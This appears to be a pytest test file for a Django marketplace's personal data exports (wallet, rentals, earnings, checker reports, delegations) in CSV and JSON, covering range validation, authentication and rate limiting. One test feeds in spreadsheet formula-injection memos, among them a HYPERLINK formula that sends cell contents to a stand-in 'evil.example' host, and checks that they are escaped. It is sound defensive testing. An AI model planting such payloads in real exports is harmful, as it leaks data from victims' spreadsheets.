"""Exports: a person's own data for a date range, streamed as CSV or JSON,
from the API (session or token) and the developer page; bounded and throttled."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from apps.core.amounts import ath
from apps.developer import tokens
from apps.marketplace import rentals
from apps.marketplace.models import RentalMode
from apps.marketplace.services import settle_rentals
from apps.monitoring import assignment, consensus
from apps.monitoring.models import CheckerReport

from ..factories import UserFactory, fund, make_checker, make_node
from ..marketplace.conftest import clock, online  # noqa: F401
from ..marketplace.conftest import consensus as node_epoch
from ..staking.conftest import checker, funded, operator  # noqa: F401

TODAY = timezone.now().date().isoformat()


def body(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body(response))))


@pytest.fixture
def api(user):
    client = APIClient()
    client.force_authenticate(user)
    return client


def test_the_wallet_statement_lists_every_entry_with_its_transaction_and_memo(api, user, other_user):
    fund(user.wallet, ath(5))
    fund(other_user.wallet, ath(7))
    response = api.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}&format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    [entry] = rows(response)
    assert entry["amount_uath"] == str(ath(5)) and entry["memo"] == "test funds" and entry["kind"] == "faucet"
    as_json = json.loads(body(api.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}&format=json")))
    assert [e["amount_uath"] for e in as_json] == [ath(5)]
    # Outside the range: nothing.
    yesterday = (timezone.now() - timedelta(days=1)).date().isoformat()
    assert rows(api.get(f"/api/developer/exports/wallet/?from={yesterday}&to={yesterday}")) == []


@pytest.mark.parametrize(
    "query, field",
    [
        ("from=2026-01-01&to=2027-06-01", "to"),  # more than a year
        ("from=2026-02-01&to=2026-01-01", "to"),
        ("from=yesterday&to=2026-01-01", "from"),
        ("to=2026-01-01", "from"),
        ("from=2026-01-01&to=2026-01-02&format=xml", "format"),
    ],
)
def test_a_bad_range_or_format_is_refused_with_a_message(api, query, field):
    response = api.get(f"/api/developer/exports/wallet/?{query}")
    assert response.status_code == 400 and field in response.json()


def test_exports_are_for_the_logged_in_only_and_throttled(client, user, settings):
    assert client.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}").status_code in (401, 403)
    settings.EXPORTS_RATE = "2/hour"
    _, raw = tokens.issue(user, "exports", ["read"])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {raw}")
    codes = [api.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}").status_code for _ in range(3)]
    assert codes == [200, 200, 429]


def test_rental_bills_and_provider_earnings_per_node_and_epoch(clock, genesis):  # noqa: F811
    renter, provider = UserFactory(), UserFactory()
    fund(renter.wallet, ath(1_000))
    node = online(make_node(provider, name="exp-h100", price_ath="2")[0])
    rentals.rent(renter, node.pk, mode=RentalMode.RESERVED, epochs_=3, image="ollama/ollama:latest")
    node_epoch(node, 10)
    settle_rentals(10)
    mine, theirs = APIClient(), APIClient()
    mine.force_authenticate(renter)
    theirs.force_authenticate(provider)
    [bill] = rows(mine.get(f"/api/developer/exports/rentals/?from={TODAY}&to={TODAY}"))
    assert (bill["epoch"], bill["outcome"], bill["charge_uath"], bill["protocol_fee_uath"]) == (
        "10",
        "served",
        "33333",
        "6666",
    )
    [earned] = rows(theirs.get(f"/api/developer/exports/earnings/?from={TODAY}&to={TODAY}"))
    assert (earned["node_name"], earned["epoch"], earned["earned_uath"]) == ("exp-h100", "10", str(33_333 - 6_666))
    # The renter earned nothing; the provider was billed nothing.
    assert rows(mine.get(f"/api/developer/exports/earnings/?from={TODAY}&to={TODAY}")) == []
    assert rows(theirs.get(f"/api/developer/exports/rentals/?from={TODAY}&to={TODAY}")) == []


def test_checker_reports_with_their_marks(genesis):
    operator = UserFactory()  # noqa: F811  (not the staking fixture)
    node, _ = make_node()
    checkers = [make_checker(operator)[0]] + [make_checker()[0] for _ in range(2)]
    assignment.fix_round(0)
    for checker_id in node.assignments.filter(epoch=0).values_list("checker_id", flat=True):
        CheckerReport.objects.create(
            epoch=0,
            node=node,
            checker_id=checker_id,
            probes=10,
            uptime_ppm=1_000_000,
            task_ppm=1_000_000,
            latency_ms=30,
            spec_ok=True,
            gpu_name_seen=node.gpu_model.name,
            gpu_count_seen=1,
            payload_hash="x",
            signature="y",
        )
    consensus.finalize(0)
    api = APIClient()
    api.force_authenticate(operator)
    reports = rows(api.get(f"/api/developer/exports/checker/?from={TODAY}&to={TODAY}"))
    assert [(r["checker"], r["node"], r["mark"]) for r in reports] == [(str(checkers[0].pk), str(node.pk), "correct")]


def test_the_developer_page_form_leads_to_the_download(client, user):
    fund(user.wallet, ath(2))
    client.force_login(user)
    response = client.get("/developer/export/", {"kind": "wallet", "from": TODAY, "to": TODAY, "format": "json"})
    assert response.status_code == 302
    download = client.get(response["Location"])
    assert json.loads(body(download))[0]["amount_uath"] == ath(2)


def test_a_memo_someone_else_wrote_cannot_become_a_spreadsheet_formula(api, user, other_user):
    # Anyone can send me 1 uATH with a memo of their choosing; opened in a
    # spreadsheet, a cell starting with = + - @ would run as a formula.
    from apps.accounts.services import send

    fund(other_user.wallet, ath(1))
    memos = ['=HYPERLINK("https://evil.example/?"&A1,"refund")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "plain"]
    for memo in memos:
        send(other_user, user.wallet.address, 1, memo)
    statement = rows(api.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}&format=csv"))
    assert [e["memo"] for e in statement] == ["'" + m for m in memos[:-1]] + ["plain"]
    # Numbers stay numbers, and JSON keeps the memo as it was written.
    assert all(e["amount_uath"] == "1" for e in statement)
    as_json = json.loads(body(api.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}&format=json")))
    assert [e["memo"] for e in as_json] == memos


def test_delegator_rewards_and_slashes(checker, funded):  # noqa: F811
    from apps.core import ledger
    from apps.core.models import ModuleAccount
    from apps.staking import services as staking

    staking.delegate(funded, checker, ath(500), epoch=1)
    staking.distribute(checker, ath(105), 2, ledger.module_account(ModuleAccount.EMISSION_RESERVE))
    paid = staking.claim_rewards(funded, checker)
    staking.slash_checker(checker, 10_000, 2, "self-contradicting report", epoch=3)  # 1%
    api = APIClient()
    api.force_authenticate(funded)
    mine = rows(api.get(f"/api/developer/exports/delegations/?from={TODAY}&to={TODAY}"))
    assert [(r["type"], r["checker_name"], r["amount_uath"], r["reason"]) for r in mine] == [
        ("reward", "Alpha", str(paid), ""),
        ("slash", "Alpha", str(-ath(5)), "self-contradicting report"),
    ]
    assert all(r["tx_height"] for r in mine)
    # Only their own: the operator's share of the slash is in the operator's export.
    api.force_authenticate(checker.operator)
    theirs = rows(api.get(f"/api/developer/exports/delegations/?from={TODAY}&to={TODAY}"))
    assert [(r["type"], r["amount_uath"]) for r in theirs] == [("slash", str(-ath(100)))]


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_through_the_asgi_server_an_export_streams_in_parts(genesis):
    """As a browser or script downloads it from Daphne: a statement larger
    than a part arrives in several parts, complete and in order."""
    from asgiref.sync import sync_to_async
    from channels.testing import HttpCommunicator

    from aethir_web.asgi import application

    @sync_to_async
    def a_long_statement():
        person = UserFactory()
        for i in range(300):  # about 40 KiB of CSV: parts of 16 KiB
            fund(person.wallet, 1 + i)
        return tokens.issue(person, "script", ["read"])[1]

    raw = await a_long_statement()
    communicator = HttpCommunicator(
        application,
        "GET",
        f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}&format=csv",
        headers=[(b"host", b"testserver"), (b"authorization", f"Bearer {raw}".encode())],
    )
    await communicator.send_input({"type": "http.request", "body": b""})
    start = await communicator.receive_output(30)
    assert start["status"] == 200
    parts = []
    while True:
        message = await communicator.receive_output(30)
        if message.get("body"):
            parts.append(message["body"])
        if not message.get("more_body"):
            break
    await communicator.wait(30)
    entries = list(csv.DictReader(io.StringIO(b"".join(parts).decode())))
    assert len(parts) >= 3
    assert [e["amount_uath"] for e in entries] == [str(1 + i) for i in range(300)]
